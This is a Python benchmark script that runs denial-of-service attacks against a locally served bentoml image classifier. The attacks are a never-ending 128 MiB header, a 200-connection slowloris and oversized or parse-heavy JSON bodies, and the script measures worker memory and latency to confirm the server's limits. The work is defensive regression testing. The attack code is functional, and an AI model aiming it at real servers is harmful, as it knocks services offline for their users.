"""Issue #31's attacks on the HTTP side at full size, against a real ``bentoml serve`` (one worker,
the default model), each beside a normal one-photo ``/classify``, with the worker's memory:

- a 128 MiB request header that never ends, no API key;
- 200 connections sending one header byte every 2 s (slowloris);
- four 59 MiB JSON bodies at once: ``/v1`` predict ``serve_bytes`` with 5.6 M ``{"b64": ""}``
  and ``/v2`` infer ``{"inputs": [[], [], ...]}``, two of each;
- the same two shapes just under ``CONVZOO_MAX_JSON_BYTES`` (parsed, or refused by their
  parse cost), four at once;
- four valid ``/v1`` predicts of 26 images of 224x224 as pixel lists (15.8 MiB each), the most
  costly JSON to parse that the limits let through;
- a ``/v2`` infer whose input holds 3.5 M empty lists (10 MiB, parsed in one call within the
  memory budget), with the slowest ``/livez`` meanwhile.

    python -m benchmarks.attack_http [--repo CHECKOUT] [--model imagenette]

``--repo`` runs the server from another checkout (an older one, to see the attacks succeed there).
tests/test_attack_served.py proves the same bounds at smaller sizes in the default suite.
"""

from __future__ import annotations

import argparse
import concurrent.futures
import io
import json
import socket
import sys
import threading
import time
from pathlib import Path

import numpy as np
import psutil
import requests
from PIL import Image

from benchmarks.modelrepo import DEFAULT_MODEL, DEFAULT_MODELS_DIR, REPO, resolve
from benchmarks.servers import SERVERS, RunningServer

MiB = 1024 * 1024


def _photo() -> bytes:
    """A 640x480 JPEG of smooth colours (a normal request's image)."""
    y, x = np.mgrid[0:480, 0:640]
    pixels = np.stack([x * 255 // 639, y * 255 // 479, (x + y) * 255 // 1118], axis=-1).astype(np.uint8)
    buffer = io.BytesIO()
    Image.fromarray(pixels).save(buffer, format="JPEG", quality=90)
    return buffer.getvalue()


PHOTO = _photo()


class Peak:
    """The worker's highest RSS while the ``with`` block runs (sampled every 20 ms)."""

    def __init__(self, process: psutil.Process) -> None:
        self.process = process
        self.before = self.peak = process.memory_info().rss
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._sample, daemon=True)

    def _sample(self) -> None:
        while not self._stop.wait(0.02):
            self.peak = max(self.peak, self.process.memory_info().rss)

    def __enter__(self) -> Peak:
        self._thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self._stop.set()
        self._thread.join()


def worker_of(server: RunningServer) -> psutil.Process:
    children = psutil.Process(server.process.pid).children(recursive=True)
    return next(c for c in children if "_bentoml_impl.worker.service" in " ".join(c.cmdline()))


def classify(url: str) -> str:
    started = time.monotonic()
    answer = requests.post(f"{url}/classify", files=[("images", ("p.jpg", PHOTO))], timeout=300)
    return f"{answer.status_code} in {time.monotonic() - started:.2f} s"


def never_finished_header(port: int, mib: int) -> str:
    connection = socket.create_connection(("127.0.0.1", port), timeout=60)
    connection.sendall(b"GET /livez HTTP/1.1\r\nHost: x\r\nX-Big: ")
    sent = 0
    try:
        for _ in range(mib):
            connection.sendall(b"a" * MiB)
            sent += 1
        connection.settimeout(30)
        reply = connection.recv(200)
        return f"all {mib} MiB sent; then {reply[:40]!r}"
    except OSError as error:
        return f"{type(error).__name__} after {sent} MiB sent"
    finally:
        connection.close()


def slowloris(port: int, count: int = 200, every_s: float = 2, limit_s: float = 60) -> str:
    connections = [socket.create_connection(("127.0.0.1", port), timeout=10) for _ in range(count)]
    for connection in connections:
        connection.sendall(b"GET /livez HTTP/1.1\r\nHost: x\r\n")
        connection.setblocking(False)
    started, closed = time.monotonic(), {}
    while len(closed) < count and time.monotonic() - started < limit_s:
        for index, connection in enumerate(connections):
            if index in closed:
                continue
            try:
                closed[index] = (time.monotonic() - started, connection.recv(64))
            except BlockingIOError:
                try:
                    connection.send(b"X")
                except OSError:
                    closed[index] = (time.monotonic() - started, b"")
            except OSError:
                closed[index] = (time.monotonic() - started, b"")
        time.sleep(every_s)
    for connection in connections:
        connection.close()
    answered = sum(reply.startswith(b"HTTP/1.1 408") for _, reply in closed.values())
    last = max((t for t, _ in closed.values()), default=float("nan"))
    return (
        f"{len(closed)}/{count} closed within {limit_s:g} s (the last after {last:.1f} s; {answered} got 408)"
    )


def bodies(size: int) -> list[tuple[str, bytes]]:
    b64 = (size - 64) // 11
    lists = (size - 16) // 3
    return [
        (
            "/v1/models/{m}:predict",
            b'{"signature_name":"serve_bytes","instances":[' + b'{"b64":""},' * (b64 - 1) + b'{"b64":""}]}',
        ),
        ("/v2/models/{m}/infer", b'{"inputs":[' + b"[]," * (lists - 1) + b"[]]}"),
    ]


def pixel_lists(images: int, side: int = 224) -> list[tuple[str, bytes]]:
    """A valid ``/v1`` predict of ``images`` images of ``side`` x ``side`` pixels as JSON lists."""
    rng = np.random.default_rng(0)
    instances = rng.integers(0, 256, (images, side, side, 3), dtype=np.uint8).tolist()
    return [("/v1/models/{m}:predict", json.dumps({"instances": instances}, separators=(",", ":")).encode())]


def json_bodies(url: str, model: str, worker: psutil.Process, shapes: list[tuple[str, bytes]]) -> None:

    def post(path: str, body: bytes) -> str:
        started = time.monotonic()
        answer = requests.post(f"{url}{path.format(m=model)}", data=body, timeout=300)
        return f"{answer.status_code} in {time.monotonic() - started:.2f} s: {answer.text[:90]}"

    with Peak(worker) as memory, concurrent.futures.ThreadPoolExecutor(4) as pool:
        attacks = [pool.submit(post, *shapes[i % len(shapes)]) for i in range(4)]
        time.sleep(0.3)
        normal = classify(url)
        answers = [attack.result() for attack in attacks]
    for answer in answers:
        print(f"    {answer}")
    print(f"    a normal /classify meanwhile: {normal}")
    right_after = worker.memory_info().rss
    time.sleep(5)
    print(
        f"    worker RSS {memory.before / MiB:.0f} MiB before, {memory.peak / MiB:.0f} peak, "
        f"{right_after / MiB:.0f} right after, {worker.memory_info().rss / MiB:.0f} 5 s later"
    )


def one_call_stall(url: str, model: str, lists: int) -> None:
    """A value made of small pieces is parsed in one call (``service.serving.jsonbody.loads_in_steps``): how
    long ``/livez`` waits meanwhile, for ``lists`` empty lists inside one input (its parse within
    the memory budget)."""
    body = b'{"inputs":[[' + b"[]," * (lists - 1) + b"[]]]}"
    with concurrent.futures.ThreadPoolExecutor(1) as pool:
        started = time.monotonic()
        attack = pool.submit(requests.post, f"{url}/v2/models/{model}/infer", data=body, timeout=300)
        slowest = 0.0
        while not attack.done():
            probe = time.monotonic()
            requests.get(f"{url}/livez", timeout=300)
            slowest = max(slowest, time.monotonic() - probe)
            time.sleep(0.005)
        answer = attack.result()
    print(
        f"    {len(body) / MiB:.1f} MiB: {answer.status_code} in {time.monotonic() - started:.2f} s; "
        f"the slowest /livez meanwhile {slowest:.3f} s"
    )


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--repo", type=Path, default=REPO, help="the checkout to serve from")
    parser.add_argument("--model", default=DEFAULT_MODEL)
    parser.add_argument("--models-dir", type=Path, default=DEFAULT_MODELS_DIR)
    parser.add_argument("--log", type=Path, default=Path("/tmp/attack_http.log"))
    args = parser.parse_args(argv)
    ref = resolve(args.model, args.models_dir)
    spec = SERVERS["bentoml"]
    with RunningServer(spec, ref, args.models_dir, None, args.log, repo=args.repo) as server:
        server.wait_ready()
        worker = worker_of(server)
        for _ in range(5):
            classify(server.url)
        print(
            f"server from {args.repo}, worker pid {worker.pid}, RSS {worker.memory_info().rss / MiB:.0f} MiB"
        )
        print("1. a 128 MiB header that never ends, no key")
        cpu = sum(worker.cpu_times()[:2])
        with Peak(worker) as memory, concurrent.futures.ThreadPoolExecutor(1) as pool:
            attack = pool.submit(never_finished_header, server.port, 128)
            time.sleep(0.5)
            normal = classify(server.url)
            outcome = attack.result()
        print(f"    {outcome}; a normal /classify meanwhile: {normal}")
        print(
            f"    worker CPU {sum(worker.cpu_times()[:2]) - cpu:.2f} s, RSS {memory.before / MiB:.0f} -> "
            f"peak {memory.peak / MiB:.0f} MiB"
        )
        print("2. slowloris: 200 connections, one header byte every 2 s")
        with concurrent.futures.ThreadPoolExecutor(1) as pool:
            attack = pool.submit(slowloris, server.port)
            time.sleep(1)
            normal = classify(server.url)
            print(f"    {attack.result()}; a normal /classify meanwhile: {normal}")
        print("3. four 59 MiB JSON bodies at once (two /v1 b64, two /v2 lists)")
        json_bodies(server.url, ref.name, worker, bodies(59 * MiB))
        print("4. the same shapes at 15.9 MiB, just under CONVZOO_MAX_JSON_BYTES, four at once")
        json_bodies(server.url, ref.name, worker, bodies(int(15.9 * MiB)))
        legit = pixel_lists(26)
        print(f"5. four valid /v1 predicts of 26 224x224 images as lists, {len(legit[0][1]) / MiB:.1f} MiB")
        json_bodies(server.url, ref.name, worker, legit)
        print("6. /v2 with 3.5 M empty lists inside its input (parsed in one call, within the budget)")
        one_call_stall(server.url, ref.name, 3_500_000)
        print(f"after: a normal /classify {classify(server.url)}")


if __name__ == "__main__":
    sys.exit(main())
